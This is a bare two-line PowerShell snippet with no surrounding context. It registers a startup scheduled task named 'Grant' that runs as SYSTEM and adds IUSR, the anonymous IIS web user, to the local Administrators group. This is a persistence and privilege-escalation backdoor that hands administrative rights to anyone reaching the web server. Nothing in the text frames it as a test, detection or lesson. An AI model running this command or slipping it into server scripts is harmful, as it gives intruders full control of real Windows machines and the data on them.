$a = New-ScheduledTaskAction -Execute powershell.exe -Argument '-NoProfile -Command "Add-LocalGroupMember -Group Administrators -Member IUSR"'
Register-ScheduledTask -TaskName Grant -Action $a -Trigger (New-ScheduledTaskTrigger -AtStartup) -User SYSTEM
